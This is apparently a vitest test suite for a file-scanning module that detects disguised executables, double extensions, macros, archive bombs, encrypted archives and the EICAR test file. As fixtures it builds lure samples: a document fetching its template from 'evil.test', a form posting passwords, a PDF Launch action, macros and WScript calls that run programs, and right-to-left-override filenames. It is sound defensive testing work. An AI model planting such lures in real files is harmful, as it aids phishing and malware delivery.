import { SignalValues } from '@goodstanding/model'
import fc from 'fast-check'
import { gzipSync, strToU8, zipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { tarOf as makeTar } from './open-test-file.ts'
import { analyseFile, detectFile } from './index.ts'

const testVirus = strToU8(['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join(''))
const program = Uint8Array.from([0x4d, 0x5a, ...new Array<number>(62).fill(0)])

function look(name: string, bytes: Uint8Array | string | null, more: { mediaType?: string; sha256?: string } = {}) {
  const content = typeof bytes === 'string' ? strToU8(bytes) : bytes
  const input = { name, mediaType: more.mediaType ?? null, size: null, sha256: more.sha256 ?? null, bytes: content }
  return analyseFile(input)
}

const fromBase64 = (text: string): Uint8Array => Uint8Array.from(atob(text), (sign) => sign.charCodeAt(0))

/** What p7zip 16.02 packs of a text and a program: as it is, with a password for the content, and with one for the list too. */
const SEVEN_ZIP = {
  plain:
    'N3q8ryccAAQK/2XbzQAAAAAAAAAiAAAAAAAAANAjRXwBABxtaW51dGVzCngxCngyCngzCng0Cng1Cng2Ck1aCgAAAIEzB64P0B3SfJ8/R0EtHq' +
    'DWMwgy8OBOfCiRh9sy2Y4LA9vW3MQ89CBNyekQo5UegQi2443eqE4yvNk90lKbsIm9iv4LxCb+XMr7ZYtiy/YIh/TFABVMy5VWBCW5lXX+S7sV' +
    'YI6/ImZYTRhVP7/AOayfahq9NigG6tjW1SH79N0ocJVXjxPKqNG6sSYs2W/s0WrJAHYUQY2A/kA1FR1X6MgUlcFHV+MkAAAAFwYhAQmArAAHCw' +
    'EAASMDAQEFXQAQAAAMgYYKAVJIJU4AAA==',
  content:
    'N3q8ryccAATH+mfl+AAAAAAAAAAiAAAAAAAAAAnbpveQSLQ9ZNlbMIXFLk35uCNETcYzvEx3jQZTUeENK2FVuI2k1XRig3oRJ7nfiB4etwoAAI' +
    'EzB64P0QDUPKCKabDjxAD69FhUvYCRB+CHVhFlPI2p5nOsvgUw9QdtJvNqDEtmz+64TrEcimvRn1wCOMjFmtYpwKJIBnX8JQ/YoWFJMVZwFPnB' +
    '04vYpm2Jmb6yxIM+A2ybO8gj3uyG8xN8FUSX7X0/QkyXnABfbNizI9XOASgnh24Ko4/JCI/YJRA/UKvX5aMNN5ql7PVAqd6SzB3p6yTwIFcx7l' +
    't5apT0LNFskCe+jrziizOQSdjXPmn0TsCAHpgtzAAAABcGMAEJgMgABwsBAAEjAwEBBV0AEAAADIGmCgGimXh4AAA=',
  list:
    'N3q8ryccAATY0+CGkAAAAAAAAAAvAAAAAAAAAJaWZmE+a8+UD/xdYu0UkImhzzwc2Sh40ewLsTncgKmivyI790Kt5/is+y2+sGqqEt9KlrVuVe' +
    '4apV+faDYXIobpmwq9sUM40AUQMZjDta4V8rsV7Fbiwk5rwxMTaBM01mGVofXB1Aavz4boNpcPlB2yko3y6BfzHBrNgnOqKXtnAXSr+ZWt0Z+Z' +
    'WS0hSZBb1B+3HvUXBhABCYCAAAcLAQABJAbxBwESUw+qqYWR255OACRkOZRHAybcDHIKAXxoEnUAAA==',
}

const tarOf = (files: Readonly<Record<string, Uint8Array>>): Uint8Array =>
  makeTar(Object.entries(files).map(([name, content]) => ({ name, content })))

describe('a file that is not quite what its name says', () => {
  const png = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  const webp = strToU8('RIFF\x24\0\0\0WEBPVP8 ')
  const ole = Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Array<number>(504).fill(0)])
  const document = zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'word/document.xml': strToU8('<w/>') })
  const sheet = '<html><head><meta charset="utf-8"></head><table><tr><td>1</td></tr></table></html>'
  const sound = strToU8('\0\0\0\x20ftypM4A ')
  it.each([
    ['holiday.jpg', png],
    ['wave.gif', webp],
    ['export.xls', sheet],
    ['letter.doc', document],
    ['payroll.xlsx', ole],
    ['song.mp3', sound],
  ])('is nothing that anybody waits for: %s', (name, bytes) => expect(look(name, bytes).typeMismatch).toBeNull())
  it.each([
    ['export.xls', `${sheet}<script>run()</script>`],
    ['letter.doc', zipSync({ 'other.txt': strToU8('x') })],
    ['holiday.jpg', document],
    ['letter.pdf', png],
    ['holiday.jpg', sheet],
    ['letter.docx', program],
  ])('is another thing: %s', (name, bytes) => expect(look(name, bytes).typeMismatch).not.toBeNull())
})

describe('the anti-virus test file', () => {
  it('is known by its hash, without bytes', () => {
    const sha256 = '275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F'
    expect(look('a.txt', null, { sha256 }).testVirus).toBe(true)
  })
  it('is known by its content, in an archive, and in an archive in an archive', () => {
    const once = zipSync({ 'eicar.com': testVirus })
    expect(look('a.bin', testVirus).testVirus).toBe(true)
    expect(look('a.zip', once).testVirus).toBe(true)
    expect(look('a.zip', zipSync({ 'inner.zip': once })).testVirus).toBe(true)
    expect(look('a.gz', gzipSync(testVirus)).testVirus).toBe(true)
  })
  it('is not a text about it', () => {
    expect(look('a.txt', `About: ${new TextDecoder().decode(testVirus)}`).testVirus).toBe(false)
  })
})

describe('a name', () => {
  it.each(['invoice.pdf.exe', 'photo\u202egpj.exe', 'report.pdf                .scr', 'cv.doc.js', '发票.pdf.exe. '])(
    'hides its ending: %s',
    (name) => expect(look(name, null).doubleExtension).not.toBeNull(),
  )
  it.each(['app.min.js', 'archive.tar.gz', 'v1.2.pdf', 'report.final.docx', 'setup.exe', 'a.pdf'])(
    'hides nothing: %s',
    (name) => expect(look(name, null).doubleExtension).toBeNull(),
  )
  it('tells a program, but not the text of a developer', () => {
    expect(look('setup.exe', null).executable).toBe('.exe')
    expect(look('build.sh', null).executable).toBeNull()
  })
})

describe('a stated media type', () => {
  const stated = (name: string, mediaType: string) => {
    const { typeMismatch, executable } = look(name, null, { mediaType })
    return { mismatch: typeMismatch !== null, program: executable !== null }
  }

  it('contradicts the name, before anybody has seen the content', () => {
    expect(stated('photo.jpg', 'application/x-msdownload')).toEqual({ mismatch: true, program: true })
    expect(stated('invoice.pdf', 'application/x-dosexec; charset=binary')).toEqual({ mismatch: true, program: true })
    expect(stated('合同.docx', 'application/vnd.microsoft.portable-executable')).toEqual({
      mismatch: true,
      program: true,
    })
    expect(stated('setup.exe', 'image/png')).toEqual({ mismatch: true, program: true })
    expect(stated('update.scr', 'application/pdf')).toEqual({ mismatch: true, program: true })
    expect(stated('report.pdf', 'video/mp4')).toEqual({ mismatch: true, program: false })
  })

  it('agrees with the name where both mean the same or one says little', () => {
    for (const [name, media] of [
      ['photo.png', 'image/jpeg'],
      ['song.mp4', 'audio/mp4'],
      ['slides.pptx', 'application/vnd.openxmlformats-officedocument.presentationml.presentation'],
      ['slides.pptx', 'application/zip'],
      ['report.pdf', 'application/octet-stream'],
      ['notes', 'image/png'],
      ['logo.svg', 'image/svg+xml'],
      ['page.html', 'application/pdf'],
    ] as const)
      expect([name, media, stated(name, media)]).toEqual([name, media, { mismatch: false, program: false }])
    expect(stated('setup.exe', 'application/x-msdownload')).toEqual({ mismatch: false, program: true })
    expect(stated('build.ps1', 'text/plain')).toEqual({ mismatch: false, program: true })
  })
})

describe('content', () => {
  it('contradicts its name', () => {
    expect(look('photo.jpg', program).typeMismatch).toBe('exe named .jpg')
    expect(look('report.pdf', '<html><body>x').typeMismatch).toBe('html named .pdf')
    expect(look('a', program, { mediaType: 'image/png' }).typeMismatch).toBe('exe stated as image/png')
  })
  it('agrees with its name', () => {
    expect(look('a.pdf', '%PDF-1.7 x', { mediaType: 'application/pdf' }).typeMismatch).toBeNull()
    expect(look('a.docx', zipSync({ 'word/document.xml': strToU8('<x/>') })).typeMismatch).toBeNull()
    expect(look('notes.txt', 'MZ is a name').typeMismatch).toBeNull()
    expect(look('a.png', null).typeMismatch).toBeNull()
  })
  it('is active in documents and pictures', () => {
    expect(look('a.pdf', '%PDF-1.7 1 0 obj << /S /Launch /F (a.exe) >>').script).toBe('Launch a.exe')
    expect(look('a.svg', '<svg xmlns="x"><script>1</script></svg>').script).not.toBeNull()
    expect(look('a.svg', '<svg onload="x()"></svg>').script).not.toBeNull()
    expect(look('a.svg', '<svg><path d="M0 0"/></svg>').script).toBeNull()
    expect(look('a.pdf', '%PDF-1.7 << /Type /Catalog >>').script).toBeNull()
    const asks = (type: string) => `<html><form action="https://collect.example"><input name="p" type=${type}></form>`
    expect(look('a.html', asks('"password"')).script).toBe('asks for a password')
    expect(look('a.html', asks('text')).script).toBeNull()
  })
  it('has macros', () => {
    expect(look('a.docx', zipSync({ 'word/vbaProject.bin': strToU8('x') })).macro).toBe(true)
    expect(look('a.docx', zipSync({ 'word/document.xml': strToU8('x') })).macro).toBe(false)
    expect(look('a.xlsm', null).macro).toBe(true)
  })
})

const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const withTemplate = (target: string) =>
  zipSync({
    'word/document.xml': strToU8('<w/>'),
    'word/_rels/settings.xml.rels': strToU8(
      `<Relationships><Relationship Id="r1" Type="${RELATIONS}/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
    ),
  })

describe('a document', () => {
  it('that fetches its template from the web is active', () => {
    expect(look('a.docx', withTemplate('http://evil.test/t.dotm')).script).toBe('attachedTemplate')
    expect(look('a.zip', zipSync({ 'a.docx': withTemplate('https://evil.test/t') })).script).toBe('attachedTemplate')
  })
  it.each([
    'file:///C:/Users/anna/Normal.dotm',
    '\\\\srv\\templates\\letter.dotx',
    'https://acme.sharepoint.com/t/letter.dotx',
  ])('with a template of its office is not: %s', (target) =>
    expect(look('a.docx', withTemplate(target)).script).toBeNull(),
  )
  it('of OpenDocument has macros where a module is, not where their library is empty', () => {
    const odt = (name: string, content = '<x/>') =>
      zipSync({ mimetype: strToU8('application/vnd.oasis.opendocument.text'), [name]: strToU8(content) })
    const basic = (code: string) =>
      look('a.odt', odt('Basic/Standard/Module1.xml', `<script:module>${code}</script:module>`))
    expect(basic('Sub Main\n  ThisComponent.Text.String = &quot;Dear all&quot;\nEnd Sub')).toMatchObject({
      macro: true,
      macroReach: null,
    })
    expect(basic('Sub Main\n  Shell(&quot;calc&quot;)\nEnd Sub').macroReach).toBe('Shell')
    expect(basic('CreateUnoService(&quot;com.sun.star.system.SystemShellExecute&quot;)').macroReach).toBe('system')
    expect(basic('StarDesktop.loadComponentFromURL(&quot;https://x.example&quot;)').macroReach).toBe('web')
    expect(look('a.odt', odt('Scripts/python/run.py')).macroReach).toBe('unread')
    expect(look('a.odt', odt('Basic/Standard/script-lb.xml')).macro).toBe(false)
  })
})

it('what hands over the machine by a double click is a program, and hides behind no other ending', () => {
  for (const ending of ['msc', 'vhdx', 'settingcontent-ms', 'library-ms', 'mobileconfig', 'iqy', 'jnlp'])
    expect(look(`a.${ending}`, 'x').executable).toBe(`.${ending}`)
  expect(look('invoice.pdf.rdp', 'x').doubleExtension).toBe('.pdf.rdp')
  expect(look('server.rdp', 'x').executable).toBeNull()
})

it('a script that drives Windows is a program, and one for pages is not', () => {
  expect(look('invoice.js', 'var s=new ActiveXObject("WScript.Shell");s.Run("calc")').executable).toMatch(/WScript/)
  expect(look('old.js', 'var x=new ActiveXObject("Microsoft.XMLHTTP")').executable).toBeNull()
})

describe('an archive', () => {
  it('is a bomb by ratio, and costs no more than the bound to see it', () => {
    expect(look('a.zip', zipSync({ a: new Uint8Array(60_000_000) }, { level: 9 })).archive?.bomb).toBe('ratio')
    expect(look('a.gz', gzipSync(new Uint8Array(60_000_000), { level: 9 })).archive?.bomb).toBe('ratio')
  })
  it('is a bomb by depth', () => {
    let bytes = strToU8('x')
    for (let round = 0; round < 8; round++) bytes = zipSync({ 'a.zip': bytes })
    expect(look('a.zip', bytes).archive?.bomb).toBe('depth')
  })
  it('is none when it is only large', () => {
    const analysis = look('a.zip', zipSync({ 'a.csv': new Uint8Array(2_000_000), 'b.txt': strToU8('hello') }))
    expect(analysis.archive).toMatchObject({ bomb: null, encrypted: false, depth: 1, entries: 2, executable: null })
  })
  it('tells a document of Office that has a password from one that has none', () => {
    const ole = (name: string): Uint8Array => {
      const bytes = new Uint8Array(2_048)
      bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])
      Array.from(name).forEach((letter, at) => bytes.set([letter.charCodeAt(0), 0], 1_024 + at * 2))
      return bytes
    }
    expect(look('plan.xls', ole('EncryptedPackage')).archive?.encrypted).toBe(true)
    expect(look('plan.xls', ole('Workbook')).archive).toBeNull()
  })
  it('tells that it is encrypted, nested, or holds a program', () => {
    const bytes = zipSync({ 'a.txt': strToU8('hello') })
    const view = new DataView(bytes.buffer)
    const central = view.getUint32(bytes.length - 6, true)
    view.setUint16(central + 8, 1, true)
    expect(look('a.zip', bytes).archive?.encrypted).toBe(true)
    const nested = look('a.zip', zipSync({ 'b.zip': zipSync({ 'c.zip': zipSync({ 'd.exe': program }) }) }))
    expect(nested.archive).toMatchObject({ depth: 3, executable: 'd.exe' })
    const sink = new SignalValues()
    detectFile(nested, '/data/file', sink)
    expect(sink.value('file.nested-archive')).toBe(1)
    expect(sink.value('file.executable')).toBe(1)
  })
  it('of tar is looked into as well, plain and packed', () => {
    const tar = tarOf({
      'notes.txt': strToU8('hello'),
      'tools/setup.exe': program,
      'in.zip': zipSync({ 'eicar.com': testVirus }),
    })
    for (const [name, bytes] of [
      ['a.tar', tar],
      ['a.tgz', gzipSync(tar)],
    ] as const) {
      expect(look(name, bytes).testVirus).toBe(true)
      expect(look(name, bytes).archive).toMatchObject({ executable: 'tools/setup.exe', bomb: null })
    }
    expect(look('a.tar', tarOf({ 'notes.txt': strToU8('hello') })).archive).toMatchObject({
      executable: null,
      depth: 1,
      entries: 1,
    })
  })
  it('of 7z tells by its list whether it needs a password, and what it holds', () => {
    const plain = look('a.7z', fromBase64(SEVEN_ZIP.plain)).archive
    expect(plain).toMatchObject({ encrypted: false, executable: 'setup.exe', entries: 8 })
    const content = look('a.7z', fromBase64(SEVEN_ZIP.content)).archive
    expect(content).toMatchObject({ encrypted: true, executable: 'setup.exe' })
    expect(look('a.7z', fromBase64(SEVEN_ZIP.list)).archive).toMatchObject({ encrypted: true, executable: null })
  })
  it('never throws, whatever the bytes', () => {
    const seeds = [
      fromBase64(SEVEN_ZIP.plain),
      tarOf({ a: strToU8('hello'), 'b.exe': program }),
      zipSync({ a: strToU8('hello'), b: new Uint8Array(100) }),
      gzipSync(strToU8('hello')),
      strToU8('%PDF-1 #'),
    ]
    fc.assert(
      fc.property(
        fc.constantFrom(...seeds),
        fc.array(fc.tuple(fc.nat(300), fc.nat(255)), { maxLength: 12 }),
        (seed, edits) => {
          const bytes = Uint8Array.from(seed)
          for (const [at, value] of edits) bytes[at % bytes.length] = value
          const analysis = look('x.zip', bytes)
          expect(JSON.parse(JSON.stringify(analysis))).toEqual(analysis)
        },
      ),
    )
  })
})
